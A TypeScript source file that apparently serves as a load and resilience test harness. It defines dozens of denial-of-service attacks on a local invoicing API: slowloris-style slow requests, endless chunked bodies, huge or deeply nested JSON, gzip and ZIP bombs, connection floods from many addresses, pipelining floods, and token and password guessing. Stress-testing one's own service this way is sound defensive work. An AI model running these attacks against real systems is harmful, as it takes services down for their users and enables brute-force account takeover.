import JSZip from "jszip"
import { randomBytes } from "node:crypto"
import { gzipSync } from "node:zlib"
import { type Crowd, drip, type OneAttack, type Pace, pour } from "./Crowd.ts"

const mebibyte = 1024 * 1024
const json_limit_bytes = 5 * mebibyte

const head = (method: string, path: string, headers: Record<string, string | number> = {}) =>
  [`${method} ${path} HTTP/1.1`, "Host: localhost", ...Object.entries(headers).map((line) => line.join(": "))]
    .map((line) => `${line}\r\n`)
    .join("")

const bearer = ({ organization, token }: Crowd) => ({
  Authorization: `Bearer ${token}`,
  "X-Organization-Id": organization
})
const asJson = { "Content-Type": "application/json" }

/** A complete POST request with a user's token, so that the service must read the body before it can refuse it. */
const postTo = (path: string, crowd: Crowd, body: string | Buffer, headers: Record<string, string | number> = {}) => {
  const all = { ...bearer(crowd), ...asJson, "Content-Length": Buffer.byteLength(body), ...headers }
  return Buffer.concat([Buffer.from(`${head("POST", path, all)}\r\n`), Buffer.from(body)])
}
const post = (crowd: Crowd, body: string | Buffer, headers: Record<string, string | number> = {}) =>
  postTo("/api/v1/customers", crowd, body, headers)

/** Sends one text after another, each as soon as the previous one is answered. */
const repeatedly =
  (next: () => string | Buffer): OneAttack =>
  (socket) => {
    // A long response comes in many pieces, of which only the first contains this text.
    socket.on("data", (piece) => piece.includes("HTTP/1.1 ") && socket.write(next()))
    socket.write(next())
  }

const halfRequest =
  (crowd: Crowd): OneAttack =>
  (socket) =>
    void socket.write(head("GET", "/api/v1/invoices", bearer(crowd)))

/** The action of each connection of an attack, and the rate at which connections are opened. */
export interface Attack extends Pace {
  /**
   * True if the attack keeps its pace whatever the service answers. Such an attack is repeated on another server
   * (`Decoy.ts`) for comparison.
   */
  readonly steady: boolean
  readonly by: (crowd: Crowd) => OneAttack
}

const steady = (pace: Pace, by: Attack["by"]): Attack => ({ ...pace, steady: true, by })
const asAnswered = (pace: Pace, by: Attack["by"]): Attack => ({ ...pace, steady: false, by })

const slow = { connections: 300, per_second: 60 }
const many = { connections: 10_000, per_second: 2_500 }
/** The connections come from many addresses, because the service limits the connections of each address. */
const from_many = { ...many, addresses: 200 }
const few = { connections: 20, per_second: 20 }

const wide = (length: number, item: (index: number) => string) => Array.from({ length }, (_, index) => item(index))
const form = "multipart/form-data; boundary=x"
const part = '--x\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n%PDF-1.7\n'

/** Compresses a statement; one whose lines are all alike becomes five hundred times smaller. */
const zipOf = (content: Buffer) =>
  new JSZip()
    .file("statement.csv", content)
    .generateAsync({ type: "nodebuffer", compression: "DEFLATE", compressionOptions: { level: 9 } })

const random = () => randomBytes(32).toString("hex")

const askForToken = (text: string) => {
  const headers = { "Content-Type": "application/x-www-form-urlencoded", "Content-Length": text.length }
  return `${head("POST", "/oauth/token", headers)}\r\n${text}`
}

const guessToken = () => `${head("GET", "/api/v1/invoices", { Authorization: `Bearer pat_${random()}` })}\r\n`
const guessRefreshToken = () => askForToken(`grant_type=refresh_token&client_id=1&refresh_token=ort_${random()}`)
const guessPassword = () =>
  askForToken(`grant_type=password&client_id=1&username=user1%40example.com&password=${random()}`)

/** Name of a run without an attack, which shows how precise the measurement is. */
export const control = "none, as a control"

export const attacks: Readonly<Record<string, Attack>> = {
  [control]: asAnswered({ connections: 0, per_second: 0 }, () => () => {}),
  "slow headers": steady(slow, () => (socket) => drip(socket, head("GET", "/health/live"), () => "X-A: b\r\n", 500)),
  "slow bodies": steady(slow, (crowd) => {
    const start = `${head("POST", "/api/v1/customers", { ...bearer(crowd), ...asJson, "Content-Length": 100_000 })}\r\n{`
    return (socket) => drip(socket, start, () => " ", 500)
  }),
  "slow uploads": steady(slow, (crowd) => {
    const headers = { ...bearer(crowd), "Content-Type": form, "Content-Length": 9 * mebibyte }
    const start = `${head("POST", `/api/v1/invoices/${crowd.invoice}/attachments`, headers)}\r\n${part}`
    return (socket) => drip(socket, start, () => "0000000", 500)
  }),
  "endless chunked bodies": asAnswered(few, (crowd) => {
    const start = `${head("POST", "/api/v1/customers", { ...bearer(crowd), ...asJson, "Transfer-Encoding": "chunked" })}\r\n`
    const chunk = Buffer.from(`10000\r\n${" ".repeat(0x10000)}\r\n`)
    return (socket) => pour(socket, start, chunk)
  }),
  "endless anonymous bodies": asAnswered(few, () => {
    const start = `${head("POST", "/oauth/token", { ...asJson, "Transfer-Encoding": "chunked" })}\r\n`
    const chunk = Buffer.from(`10000\r\n${" ".repeat(0x10000)}\r\n`)
    return (socket) => pour(socket, start, chunk)
  }),
  "Content-Length of 10 TB": asAnswered(few, (crowd) => {
    const start = `${head("POST", "/api/v1/customers", { ...bearer(crowd), ...asJson, "Content-Length": 1e13 })}\r\n`
    return (socket) => pour(socket, start, Buffer.alloc(0x10000, 0x20))
  }),
  "Content-Length too short": asAnswered(
    few,
    (crowd) => (socket) => void socket.write(post(crowd, `{"name":"A"}${"x".repeat(10_000)}`, { "Content-Length": 12 }))
  ),
  "large headers": asAnswered(
    few,
    () => (socket) => pour(socket, `${head("GET", "/")}X-A: `, Buffer.alloc(0x10000, 0x61))
  ),
  "many headers": asAnswered(
    few,
    () => (socket) => pour(socket, head("GET", "/"), Buffer.from("X-A: b\r\n".repeat(1000)))
  ),
  "JSON nested 200,000 deep": asAnswered(few, (crowd) => {
    const body = post(crowd, `{"name":${"[".repeat(200_000)}1${"]".repeat(200_000)}}`)
    return repeatedly(() => body)
  }),
  "JSON of 5 MiB of [": asAnswered(few, (crowd) => {
    const body = post(crowd, "[".repeat(json_limit_bytes))
    return repeatedly(() => body)
  }),
  "JSON of 5 MiB, wide": asAnswered(few, (crowd) => {
    const body = post(crowd, `{"name":[${wide(1_200_000, () => "[1]").join()}]}`)
    return repeatedly(() => body)
  }),
  "JSON of 5 MiB, one text": asAnswered(few, (crowd) => {
    const body = post(crowd, `{"name":"${"x".repeat(json_limit_bytes - 11)}"}`)
    return repeatedly(() => body)
  }),
  "JSON of 200,000 keys": asAnswered(few, (crowd) => {
    const body = post(crowd, `{${wide(200_000, (index) => `"${index * 0x10001}":1`).join()}}`)
    return repeatedly(() => body)
  }),
  "JSON of a document with 9,000 lines": asAnswered(few, (crowd) => {
    const body = postTo("/api/v1/invoices", crowd, `{"items":[${wide(9_000, () => "{}").join()}]}`)
    return repeatedly(() => body)
  }),
  "form of 200,000 keys": asAnswered(few, () => {
    const body = askForToken(wide(200_000, (index) => `k${index}=1`).join("&"))
    return repeatedly(() => body)
  }),
  "gzip bombs": asAnswered(few, (crowd) => {
    const body = post(crowd, gzipSync(Buffer.alloc(200 * mebibyte, 0x20)), { "Content-Encoding": "gzip" })
    return repeatedly(() => body)
  }),
  "ZIP bombs as bank statements": asAnswered(few, (crowd) => {
    // The ZIP is smaller than 64 KiB, up to which the service itself reads files of other formats.
    const zipped = zipOf(Buffer.alloc(30 * mebibyte, "2026-01-05;1,00\n"))
    return async (socket) => {
      const file = '--x\r\nContent-Disposition: form-data; name="file"; filename="a.zip"\r\n\r\n'
      const body = Buffer.concat([Buffer.from(file), await zipped, Buffer.from("\r\n--x--\r\n")])
      const path = `/api/v1/bank-accounts/${crowd.bank_account}/import-statement`
      return repeatedly(() => postTo(path, crowd, body, { "Content-Type": form }))(socket)
    }
  }),
  "10,000 idle connections": steady(many, () => () => {}),
  "10,000 idle connections of 200 addresses": steady(from_many, () => () => {}),
  "10,000 half requests": steady(many, halfRequest),
  "10,000 half requests of 200 addresses": steady(from_many, halfRequest),
  "health checks": asAnswered(few, () => repeatedly(() => `${head("GET", "/health/ready")}\r\n`)),
  "the largest document": asAnswered(few, () => repeatedly(() => `${head("GET", "/docs")}\r\n`)),
  "pipelined requests": asAnswered(few, () => {
    const flood = Buffer.from(`${head("GET", "/health/live")}\r\n`.repeat(1000))
    return (socket) => pour(socket, "", flood)
  }),
  "pipelined API requests": asAnswered(few, (crowd) => {
    const flood = Buffer.from(`${head("GET", "/api/v1/invoices", bearer(crowd))}\r\n`.repeat(1000))
    return (socket) => pour(socket, "", flood)
  }),
  "guessed tokens": asAnswered(few, () => repeatedly(guessToken)),
  "guessed refresh tokens": asAnswered(few, () => repeatedly(guessRefreshToken)),
  "guessed passwords": asAnswered(few, () => repeatedly(guessPassword)),
  "a connection for each request": steady({ connections: 20, per_second: 2_500 }, (crowd) => {
    const asked = `${head("GET", "/api/v1/invoices", { ...bearer(crowd), Connection: "close" })}\r\n`
    return (socket) => void socket.write(asked)
  }),
  garbage: asAnswered({ connections: 60, per_second: 60 }, () => (socket) => void socket.write(randomBytes(4096)))
}
